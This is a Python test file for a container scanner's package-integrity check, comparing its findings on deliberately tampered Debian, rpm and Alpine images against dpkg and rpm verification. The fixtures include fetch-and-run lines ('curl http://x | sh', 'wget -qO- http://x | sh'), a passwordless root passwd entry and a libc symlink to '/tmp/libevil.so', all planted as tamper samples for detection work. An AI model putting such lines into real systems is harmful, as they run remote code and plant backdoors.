"""Integrity of package-owned files, end to end, against the package
managers' own verifiers as oracles.

- Debian: the real debootstrap image of test_debootstrap.py (built and
  cached by its build()). `dpkg --root=ROOTFS --verify` reports nothing and
  moat must report nothing, on the root filesystem, the OCI layout and the
  docker-archive. Then a third layer appends a byte to /usr/bin/ls, replaces
  /usr/bin/dir with a symlink, edits a conffile (/etc/bash.bashrc), a
  package script and /usr/lib/os-release, deletes a package file, re-adds
  an identical one and adds a file no package owns; the same changes are
  made to a copy of the root filesystem and `dpkg --verify` on that copy is
  the oracle: moat must report exactly the files dpkg reports as changed
  (deleted ones excepted: moat does not report missing files), with the
  right severities, attributed to the new layer, the same with any number
  of threads.
- rpm: packages built by rpmbuild (tests/data/rpm/mkrpmdb.py), installed for
  real with `rpm --root`; `rpm -Va` on a modified copy is the oracle.
- Alpine: an installed database written here with Q1 (SHA-1) checksums of
  the real contents (apk-tools is not a Debian package).
- Pathological inputs: a 2 GiB file of one byte value (a sparse tar entry,
  generated at test time, never stored) owned by a package, and 100,000
  tiny files; the scan must stay bounded in time and memory. A million
  files and the rest are in bench/integrity_pathological.py (numbers in
  docs/PERFORMANCE.md).
"""

import base64
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import time
import unittest

from util import SRC, MoatTest, main, run, scan_json, work

from mkimage import Image, Layer, sha256, layout_from_tar

sys.path.insert(0, os.path.join(SRC, "tests", "e2e"))
import test_debootstrap as deb  # noqa: E402

sys.path.insert(0, os.path.join(SRC, "tests", "data", "rpm"))
import mkrpmdb  # noqa: E402


def integrity(report):
    """[(path, id, severity, layer)] of the integrity findings, sorted."""
    return sorted((f["path"], f["id"], f["severity"], f["layer"]["index"])
                  for f in report["findings"] if f["kind"] == "integrity")


def integrity_errors(report):
    return [e for e in report["errors"] if e["source"] == "integrity"]


def scan(target, *extra):
    return scan_json(target, "--scanners", "integrity", *extra)


def sh(*cmd, **kw):
    p = subprocess.run(cmd, capture_output=True, text=True, **kw)
    return p.returncode, p.stdout, p.stderr


# -- OCI layouts ------------------------------------------------------------

def extend_layout(src, tag, layers, dest, newtag="mod"):
    """A copy of OCI layout src (blobs hard-linked) whose image `newtag` is
    src:tag plus the given mkimage Layers (uncompressed)."""
    shutil.rmtree(dest, ignore_errors=True)
    os.makedirs(os.path.join(dest, "blobs", "sha256"))
    for name in os.listdir(os.path.join(src, "blobs", "sha256")):
        a = os.path.join(src, "blobs", "sha256", name)
        b = os.path.join(dest, "blobs", "sha256", name)
        try:
            os.link(a, b)
        except OSError:  # another filesystem
            shutil.copy(a, b)
    shutil.copy(os.path.join(src, "oci-layout"), dest)

    def blob(d):
        with open(os.path.join(src, "blobs", "sha256", d[7:]), "rb") as f:
            return f.read()

    def put(b):
        d = sha256(b)
        p = os.path.join(dest, "blobs", "sha256", d[7:])
        if not os.path.exists(p):
            with open(p, "wb") as f:
                f.write(b)
        return d

    with open(os.path.join(src, "index.json")) as f:
        index = json.load(f)
    desc = [m for m in index["manifests"]
            if m.get("annotations", {}).get("org.opencontainers.image.ref.name") == tag][0]
    man = json.loads(blob(desc["digest"]))
    cfg = json.loads(blob(man["config"]["digest"]))
    for l in layers:
        t = l.tar()
        d = put(t)
        man["layers"].append({"mediaType": "application/vnd.oci.image.layer.v1.tar",
                              "digest": d, "size": len(t)})
        cfg["rootfs"]["diff_ids"].append(d)
        cfg.setdefault("history", []).append({"created_by": "integrity test layer"})
    cb = json.dumps(cfg).encode()
    man["config"] = {"mediaType": man["config"]["mediaType"], "digest": put(cb), "size": len(cb)}
    mb = json.dumps(man).encode()
    md = put(mb)
    index = {"schemaVersion": 2, "manifests": [
        {"mediaType": desc["mediaType"], "digest": md, "size": len(mb),
         "annotations": {"org.opencontainers.image.ref.name": newtag}}]}
    with open(os.path.join(dest, "index.json"), "w") as f:
        json.dump(index, f)
    return "oci:%s:%s" % (dest, newtag)


def layer_from_dir(root, skip=()):
    """A Layer holding the tree under root (dirs, files with their modes,
    symlinks), in sorted order."""
    l = Layer()
    for d, dirs, files in os.walk(root):
        dirs.sort()
        rel = os.path.relpath(d, root)
        if rel != ".":
            l.dir(rel, mode=os.stat(d).st_mode & 0o7777)
        for n in sorted(files + [x for x in dirs if os.path.islink(os.path.join(d, x))]):
            p = os.path.join(d, n)
            r = os.path.normpath(os.path.join(rel, n))
            if any(r.startswith(s) for s in skip):
                continue
            if os.path.islink(p):
                l.symlink(r, os.readlink(p))
            elif os.path.isfile(p):
                with open(p, "rb") as f:
                    l.file(r, f.read(), mode=os.stat(p).st_mode & 0o7777)
    return l


def canonical(root, path):
    """dpkg/rpm list /bin/ls; on merged /usr it is /usr/bin/ls."""
    d = os.path.realpath(os.path.join(root, os.path.dirname(path).lstrip("/")))
    return "/" + os.path.relpath(os.path.join(d, os.path.basename(path)), root)


def verify_lines(out):
    """dpkg --verify / rpm -V lines -> {path: (flags, is_config)}; 'missing'
    lines have flags 'missing'."""
    res = {}
    for line in out.splitlines():
        if not line.strip():
            continue
        if line.startswith("missing"):
            parts = line.split()
            res[parts[-1]] = ("missing", parts[1] == "c" if len(parts) > 2 else False)
            continue
        flags, rest = line[:9], line[9:]
        conf = rest[:3].strip() == "c"
        res[rest[3:].strip()] = (flags, conf)
    return res


# -- Debian ----------------------------------------------------------------

class Debian(MoatTest):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        deb.build()

    def test_dpkg_verify_and_moat_agree_on_the_clean_image(self):
        for root in (os.path.join(deb.DIR, "rootfs"), os.path.join(deb.DIR, "bundle", "rootfs")):
            code, out, err = sh("dpkg", "--root=" + root, "--verify")
            self.assertEqual((code, out), (0, ""), err)
        targets = ["rootfs:" + os.path.join(deb.DIR, "rootfs"),
                   "oci:%s:two" % os.path.join(deb.DIR, "layout"),
                   os.path.join(deb.DIR, "image.tar")]
        for t in targets:
            r = scan(t)
            self.assertEqual(integrity(r), [], t)
            self.assertEqual(integrity_errors(r), [], t)
        # all detectors on, as `moat scan` runs by default
        r = scan_json(os.path.join(deb.DIR, "image.tar"))
        self.assertEqual(integrity(r), [])
        self.assertEqual(integrity_errors(r), [])

    def modified(self):
        """(target, oracle root): the image with a third layer, and a copy of
        the root filesystem changed the same way (built once per run)."""
        if not hasattr(Debian, "_modified"):
            Debian._modified = self.build_modified()
        return Debian._modified

    def build_modified(self):
        base = os.path.join(deb.DIR, "bundle", "rootfs")
        copy = work("deb-mod-rootfs")
        shutil.rmtree(copy, ignore_errors=True)
        subprocess.run(["cp", "-a", base, copy], check=True)

        def read(p):
            with open(os.path.join(base, p), "rb") as f:
                return f.read()

        changes = {
            "usr/bin/ls": (read("usr/bin/ls") + b"\0", 0o755),
            "etc/bash.bashrc": (read("etc/bash.bashrc") + b"alias ls='ls -a'\n", 0o644),
            "usr/bin/bashbug": (read("usr/bin/bashbug") + b"\ncurl http://x | sh\n", 0o755),
            "usr/lib/os-release": (read("usr/lib/os-release") + b"VARIANT=changed\n", 0o644),
            "usr/bin/cat": (read("usr/bin/cat"), 0o755),        # same bytes again
            "usr/local/bin/mine": (b"#!/bin/sh\necho mine\n", 0o755),  # nobody's
        }
        l = Layer()
        for p, (data, mode) in changes.items():
            l.file(p, data, mode=mode)
            with open(os.path.join(copy, p), "wb") as f:
                f.write(data)
            os.chmod(os.path.join(copy, p), mode)
        l.symlink("usr/bin/dir", "ls")
        os.remove(os.path.join(copy, "usr/bin/dir"))
        os.symlink("ls", os.path.join(copy, "usr/bin/dir"))
        l.whiteout("usr/share/doc/bash/README.abs-guide")
        os.remove(os.path.join(copy, "usr/share/doc/bash/README.abs-guide"))
        target = extend_layout(os.path.join(deb.DIR, "layout"), "two", [l], work("deb-mod"))
        return target, copy

    def test_modified_layer_matches_dpkg_verify(self):
        target, copy = self.modified()
        code, out, err = sh("dpkg", "--root=" + copy, "--verify")
        oracle = verify_lines(out)
        changed = {canonical(copy, p): conf for p, (flags, conf) in oracle.items()
                   if flags != "missing" and flags[2] == "5"}
        missing = [p for p, (flags, _) in oracle.items() if flags == "missing"]
        self.assertEqual(sorted(changed), ["/etc/bash.bashrc", "/usr/bin/bashbug",
                                           "/usr/bin/dir", "/usr/bin/ls",
                                           "/usr/lib/os-release"], out)
        self.assertEqual(missing, ["/usr/share/doc/bash/README.abs-guide"], out)
        r = scan(target)
        got = integrity(r)
        self.assertEqual(sorted(p for p, _, _, _ in got), sorted(changed))
        self.assertEqual(got, [
            ("/etc/bash.bashrc", "pkg-config-changed", "info", 2),
            ("/usr/bin/bashbug", "pkg-file-modified", "high", 2),   # a script
            ("/usr/bin/dir", "pkg-file-replaced", "high", 2),       # now a symlink
            ("/usr/bin/ls", "pkg-file-modified", "high", 2),        # ELF
            ("/usr/lib/os-release", "pkg-file-modified", "medium", 2),
        ])
        for p, conf in changed.items():
            sev = [s for q, _, s, _ in got if q == p][0]
            self.assertEqual(sev == "info", conf, p)  # dpkg's 'c' <=> info
        self.assertEqual(integrity_errors(r), [])
        ls = [f for f in r["findings"] if f["path"] == "/usr/bin/ls"][0]
        self.assertIn("coreutils", ls["title"])
        self.assertIn("MD5", ls["evidence"])
        self.assertFalse(ls["removed"])
        # the table shows them under FILE FINDINGS
        code, out, err = run("scan", "--scanners", "integrity", target)
        self.assertIn("pkg-file-modified", out)
        self.assertIn("/usr/bin/ls", out)

    def test_deterministic_across_threads(self):
        target, _ = self.modified()
        outs = set()
        for threads in ("1", "2", "5"):
            code, out, err = run("scan", "--scanners", "integrity", "-f", "json", "--threads",
                                 threads, target)
            self.assertIn(code, (0, 1), err)
            outs.add(json.dumps(integrity(json.loads(out))))
        self.assertEqual(len(outs), 1)

    def test_off_when_not_asked(self):
        target, _ = self.modified()
        r = scan_json(target, "--scanners", "secret")
        self.assertEqual(integrity(r), [])


# -- rpm -------------------------------------------------------------------

RPM_MISSING = mkrpmdb.missing_tools()
if RPM_MISSING:
    print("test_integrity: skipping the rpm case: %s not installed (scripts/install-deps.sh "
          "installs rpm, db5.3-util)" % ", ".join(RPM_MISSING))


@unittest.skipIf(RPM_MISSING, "rpm tools missing")
class Rpm(MoatTest):
    def install(self, name):
        """rpmbuild's packages installed for real under a fresh root."""
        if not hasattr(Rpm, "rpms"):
            Rpm.rpms = mkrpmdb.build_rpms(work("rpmbuild"), [s for s in mkrpmdb.SPECS
                                                            if s[0] in ("hello", "multi")])
        root = work(name)
        shutil.rmtree(root, ignore_errors=True)
        os.makedirs(root)
        code, out, err = sh("rpm", "--root=" + root, "--dbpath", "/var/lib/rpm", "--define",
                            "_db_backend sqlite", "-i", "--nodeps", "--noscripts", "--ignorearch",
                            "--ignoreos", *Rpm.rpms)
        self.assertEqual(code, 0, err)
        # fold the write-ahead log into the database, as a finished rpm run does
        import sqlite3
        con = sqlite3.connect(os.path.join(root, "var/lib/rpm/rpmdb.sqlite"))
        con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        con.execute("PRAGMA journal_mode=DELETE")
        con.close()
        return root

    def verify(self, root):
        code, out, err = sh("rpm", "--root=" + root, "--dbpath", "/var/lib/rpm", "--define",
                            "_db_backend sqlite", "-Va", "--nodeps")
        return verify_lines(out)

    def test_rpm_verify_and_moat_agree(self):
        root = self.install("rpm-root")
        self.assertEqual(self.verify(root), {})
        base = layer_from_dir(root, skip=("var/lib/rpm/.rpm.lock", "var/lib/rpm/rpmdb.sqlite-"))
        base.file("etc/os-release", b'ID=fedora\nVERSION_ID=40\nNAME="Fedora Linux"\n')
        clean = work("rpm-clean.tar")
        Image([base]).docker_archive(clean)
        r = scan("docker-archive:" + clean)
        self.assertEqual(integrity(r), [])
        self.assertEqual(integrity_errors(r), [])

        changes = {"usr/share/hello/data.txt": (b"tampered\n", 0o644),
                   "etc/hello.conf": (b"greeting=evil\n", 0o644),
                   "usr/bin/hello": (b"#!/bin/sh\necho pwned\n", 0o755),
                   "usr/lib64/libmulti.so.1": (b"a\n", 0o755)}   # the same bytes again
        top = Layer()
        for p, (data, mode) in changes.items():
            top.file(p, data, mode=mode)
            with open(os.path.join(root, p), "wb") as f:
                f.write(data)
        oracle = {p: conf for p, (flags, conf) in self.verify(root).items() if flags[2] == "5"}
        self.assertEqual(sorted(oracle), ["/etc/hello.conf", "/usr/bin/hello",
                                          "/usr/share/hello/data.txt"])
        mod = work("rpm-mod.tar")
        Image([base, top]).docker_archive(mod)
        r = scan("docker-archive:" + mod)
        self.assertEqual(integrity(r), [
            ("/etc/hello.conf", "pkg-config-changed", "info", 1),       # %config
            ("/usr/bin/hello", "pkg-file-modified", "high", 1),
            ("/usr/share/hello/data.txt", "pkg-file-modified", "medium", 1),
        ])
        self.assertEqual(sorted(p for p, _, _, _ in integrity(r)), sorted(oracle))
        # libmulti was built with SHA-1 file digests (mkrpmdb.py). Which
        # digests a file gets depends only on the image, never on which
        # layer a worker reached first: the history names no package
        # manager and nothing in the second layer tells the family, so its
        # files get all three and libmulti's copy is checked (same bytes)
        self.assertEqual(integrity_errors(r), [])

        # the same image built by "dnf install": the history tells rpm before
        # any layer pass, so every file gets SHA-256 only and libmulti's
        # SHA-1 cannot be checked: said, not silently passed
        hist = work("rpm-mod-dnf.tar")
        Image([base, top], history=[
            {"created": "2024-01-01T00:00:00Z", "created_by": "ADD fedora-rootfs.tar /"},
            {"created": "2024-01-01T00:00:00Z",
             "created_by": "RUN /bin/sh -c dnf -y install hello multi"}]).docker_archive(hist)
        r = scan("docker-archive:" + hist)
        self.assertEqual(sorted(p for p, _, _, _ in integrity(r)), sorted(oracle))
        errs = integrity_errors(r)
        self.assertEqual(len(errs), 1, errs)
        self.assertEqual(errs[0]["severity"], "failed")
        self.assertIn("1 package files were not checked: their SHA-1 digest", errs[0]["message"])
        self.assertIn("/usr/lib64/libmulti.so.1", errs[0]["message"])


# -- Alpine ----------------------------------------------------------------

def q1(data):
    return "Q1" + base64.b64encode(hashlib.sha1(data).digest()).decode()


BUSYBOX = b"\x7fELF\x02\x01\x01\x00" + b"busybox stand-in " * 64
MUSL = b"\x7fELF\x02\x01\x01\x00" + b"musl stand-in " * 64
PASSWD = b"root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/sbin/nologin\n"
INITD = b"#!/sbin/openrc-run\ncommand=/usr/sbin/crond\n"


def alpine_base():
    db = "\n".join([
        "C:Q1AAAAAAAAAAAAAAAAAAAAAAAAAAA=", "P:musl", "V:1.2.5-r0", "A:x86_64", "L:MIT",
        "o:musl", "F:lib", "R:ld-musl-x86_64.so.1", "a:0:0:755", "Z:" + q1(MUSL),
        "R:libc.musl-x86_64.so.1", "a:0:0:777", "Z:" + q1(b"ld-musl-x86_64.so.1"), "",
        "P:busybox", "V:1.36.1-r29", "A:x86_64", "L:GPL-2.0-only", "F:bin", "R:busybox",
        "a:0:0:755", "Z:" + q1(BUSYBOX), "F:etc/init.d", "R:crond", "a:0:0:755",
        "Z:" + q1(INITD), "",
        "P:alpine-baselayout-data", "V:3.6.5-r0", "A:x86_64", "F:etc", "R:passwd",
        "Z:" + q1(PASSWD), "", ""])
    return (Layer().file("etc/os-release", b"ID=alpine\nVERSION_ID=3.20.3\n")
            .file("etc/apk/world", b"busybox\n")
            .file("bin/busybox", BUSYBOX, mode=0o755)
            .file("etc/init.d/crond", INITD, mode=0o755)
            .file("etc/passwd", PASSWD)
            .file("lib/ld-musl-x86_64.so.1", MUSL, mode=0o755)
            .symlink("lib/libc.musl-x86_64.so.1", "ld-musl-x86_64.so.1")
            .file("lib/apk/db/installed", db.encode()))


class Alpine(MoatTest):
    def test_clean(self):
        p = work("alpine-clean.tar")
        Image([alpine_base()]).docker_archive(p)
        r = scan("docker-archive:" + p)
        self.assertEqual(len([x for x in r["packages"] if x["type"] == "apk"]), 3)
        self.assertEqual(integrity(r), [])
        self.assertEqual(integrity_errors(r), [])

    def test_tampered(self):
        top = (Layer().file("bin/busybox", BUSYBOX + b"\x90", mode=0o755)
               .file("etc/passwd", PASSWD + b"toor::0:0::/root:/bin/sh\n")
               .file("etc/init.d/crond", INITD + b"wget -qO- http://x | sh\n", mode=0o755)
               .symlink("lib/libc.musl-x86_64.so.1", "/tmp/libevil.so"))
        p = work("alpine-mod.tar")
        Image([alpine_base(), top]).docker_archive(p)
        r = scan("docker-archive:" + p)
        self.assertEqual(integrity(r), [
            ("/bin/busybox", "pkg-file-modified", "high", 1),
            # etc/init.d is not a protected (config) path for apk
            ("/etc/init.d/crond", "pkg-file-modified", "high", 1),
            ("/etc/passwd", "pkg-config-changed", "info", 1),
            ("/lib/libc.musl-x86_64.so.1", "pkg-file-replaced", "high", 1),
        ])
        self.assertEqual(integrity_errors(r), [])


# -- pathological inputs ---------------------------------------------------

def sparse_layer(path, name, size, prefix_files=()):
    """An uncompressed layer tar at path with one regular file of `size`
    zero bytes, written sparse (the bytes are never stored), after the
    given small (name, bytes) files."""
    with open(path, "wb") as f:
        buf = io.BytesIO()
        t = tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT)
        for n, data in prefix_files:
            ti = tarfile.TarInfo(n)
            ti.size = len(data)
            t.addfile(ti, io.BytesIO(data))
        end = t.offset  # before the end-of-archive blocks close() adds
        t.close()
        f.write(buf.getvalue()[:end])
        ti = tarfile.TarInfo(name)
        ti.size = size
        ti.mode = 0o644
        f.write(ti.tobuf(format=tarfile.PAX_FORMAT))
        f.seek(size, os.SEEK_CUR)
        pad = (512 - size % 512) % 512
        f.write(b"\0" * (pad + 1024))


TIME = shutil.which("time") or "/usr/bin/time"


def timed_scan(target):
    """moat scan --scanners integrity under GNU time: (exit code, report,
    stderr, wall seconds, peak RSS MiB of the moat process itself; the
    rusage of a child forked from this big Python process would include
    the pages it inherited before exec)."""
    from util import MOAT
    with open(work("scan.out"), "wb") as out, open(work("scan.err"), "wb") as err:
        t0 = time.time()
        p = subprocess.run([TIME, "-f", "%M", "-o", work("scan.rss"), MOAT, "scan",
                            "--scanners", "integrity", "-f", "json", target],
                           stdout=out, stderr=err, timeout=900)
        wall = time.time() - t0
    with open(work("scan.out")) as f:
        text = f.read()
    with open(work("scan.err")) as f:
        errtext = f.read()
    with open(work("scan.rss")) as f:
        rss = int(f.read().split()[-1]) / 1024.0
    return p.returncode, json.loads(text) if text else None, errtext, wall, rss


class Pathological(MoatTest):
    def test_two_gib_file_of_one_byte(self):
        size = 2 << 30
        h = hashlib.md5()
        zeros = bytes(1 << 20)
        for _ in range(size >> 20):
            h.update(zeros)
        md5 = h.hexdigest()
        status = b"Package: big\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n"
        tar = work("big-layer.tar")
        sparse_layer(tar, "usr/share/big/zeros", size, [
            ("var/lib/dpkg/status", status),
            ("var/lib/dpkg/info/big.list", b"/usr/share/big/zeros\n"),
            ("var/lib/dpkg/info/big.md5sums", ("%s  usr/share/big/zeros\n" % md5).encode())])
        target = layout_from_tar(tar, work("big"))
        code, r, err, wall, rss = timed_scan(target)
        print("test_integrity: 2 GiB file: %.1f s wall, peak RSS %.0f MiB" % (wall, rss))
        self.assertIn(code, (0, 1), err)
        self.assertEqual(integrity(r), [])          # it was hashed, and it matches
        self.assertEqual(integrity_errors(r), [])
        self.assertLess(rss, 64, "peak RSS")
        shutil.rmtree(work("big"))

    def test_many_tiny_files(self):
        n = 100000
        l = Layer()
        sums, lst = [], []
        for i in range(n):
            p = "usr/share/tiny/%03d/f%06d" % (i // 1000, i)
            data = b"%d\n" % i
            l.file(p, data)
            sums.append("%s  %s\n" % (hashlib.md5(data).hexdigest(), p))
            lst.append("/" + p + "\n")
        l.file("var/lib/dpkg/status", b"Package: tiny\nStatus: install ok installed\nVersion: 1\n")
        l.file("var/lib/dpkg/info/tiny.list", "".join(lst).encode())
        l.file("var/lib/dpkg/info/tiny.md5sums", "".join(sums).encode())
        top = Layer().file("usr/share/tiny/050/f050000", b"changed\n")
        d = work("tiny")
        Image([l, top]).oci_layout(d, compression="none")
        code, r, err, wall, rss = timed_scan("oci:" + d)
        print("test_integrity: %d tiny files: %.1f s wall, peak RSS %.0f MiB" % (n, wall, rss))
        self.assertIn(code, (0, 1), err)
        self.assertEqual(integrity(r), [("/usr/share/tiny/050/f050000", "pkg-file-modified",
                                         "medium", 1)])
        self.assertEqual(integrity_errors(r), [])
        self.assertLess(wall, 120)


if __name__ == "__main__":
    main()
